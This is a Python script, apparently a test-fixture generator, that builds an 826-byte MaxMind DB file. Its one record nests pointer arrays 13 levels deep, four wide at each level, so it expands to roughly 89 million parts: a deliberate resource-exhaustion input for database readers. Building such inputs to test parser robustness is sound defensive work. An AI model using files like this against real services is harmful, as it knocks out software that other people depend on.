#!/usr/bin/env python3
"""hostile.py OUT: writes a database of 826 bytes whose one record is an array of four pointers to an array of four
pointers, and so on, 13 times: written out it has 89 million parts."""
import sys

LEVELS, WIDTH, SIZE = 13, 4, 826


def text(word):
    assert len(word) < 29 + 256
    return bytes([0x40 | len(word)]) + word if len(word) < 29 else bytes([0x5D, len(word) - 29]) + word


def number(kind, value):
    digits = value.to_bytes((value.bit_length() + 7) // 8, "big")
    return (bytes([kind << 5 | len(digits)]) if kind < 8 else bytes([len(digits), kind - 7])) + digits


def pointer(target):
    return bytes([0x20 | target >> 8, target & 255])


def array(parts):
    return bytes([len(parts), 4]) + b"".join(parts)


def mapping(pairs):
    return bytes([0xE0 | len(pairs)]) + b"".join(text(key) + value for key, value in pairs)


def metadata(words):
    return mapping([
        (b"binary_format_major_version", number(5, 2)),
        (b"binary_format_minor_version", number(5, 0)),
        (b"build_epoch", number(9, 1)),
        (b"database_type", text(b"Test")),
        (b"description", mapping([(b"en", text(words[:250])), (b"de", text(words[250:]))])),
        (b"ip_version", number(5, 4)),
        (b"languages", array([])),
        (b"node_count", number(6, 1)),
        (b"record_size", number(5, 24)),
    ])


def data():
    section = array([number(5, 1)] * WIDTH)
    top = 0
    for _ in range(LEVELS - 1):
        level = array([pointer(top)] * WIDTH)
        top = len(section)
        section += level
    return section, top


section, top = data()
record = (1 + 16 + top).to_bytes(3, "big")
head = record * 2 + bytes(16) + section + b"\xab\xcd\xefMaxMind.com"
for length in range(1, 500):
    file = head + metadata(b"x" * length)
    if len(file) == SIZE:
        break
assert len(file) == SIZE
with open(sys.argv[1], "wb") as out:
    out.write(file)
